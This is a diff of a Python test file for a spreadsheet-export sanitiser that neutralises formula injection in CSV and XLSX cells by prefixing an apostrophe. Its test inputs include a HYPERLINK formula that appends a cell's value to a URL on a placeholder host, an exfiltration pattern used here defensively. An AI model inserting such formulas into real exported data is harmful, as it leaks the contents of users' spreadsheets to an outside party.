@@ -11,9 +11,9 @@ from defusedxml import ElementTree
 from hypothesis import given
 from hypothesis import strategies as st
 
-from campaigns import spreadsheets
-from campaigns.spreadsheets import csv_pieces, xlsx_pieces
+from tickets import spreadsheets
 from tickets.formulas import inert, without_guard
+from tickets.spreadsheets import csv_pieces, xlsx_pieces
 
 FORMULAS = [
     '=HYPERLINK("http://example.com/?d="&A1,"clic")',
@@ -40,13 +40,15 @@ def xlsx_rows(header, rows):
     return [[cell or "" for cell in row] for row in workbook(header, rows).active.iter_rows(values_only=True)]
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, "  =1+1", "\u00a0=1+1", " \n\n=1+1", "＝1+1", "+573001234567"])
+@pytest.mark.parametrize(
+    "text", [*FORMULAS, "  =1+1", "\u00a0=1+1", " \n\n=1+1", "＝1+1", "+573001234567", "'=1", "''@x"]
+)
 def test_what_would_be_calculated_gets_an_apostrophe(text):
     assert inert(text) == f"'{text}"
     assert without_guard(inert(text)) == text
 
 
-@pytest.mark.parametrize("text", ["", " ", "Ana", "ana@example.com", "3 = tres", "'=1", "500 -"])
+@pytest.mark.parametrize("text", ["", " ", "Ana", "ana@example.com", "3 = tres", "'Ana", "500 -"])
 def test_what_is_text_stays_as_it_is(text):
     assert inert(text) == text
 
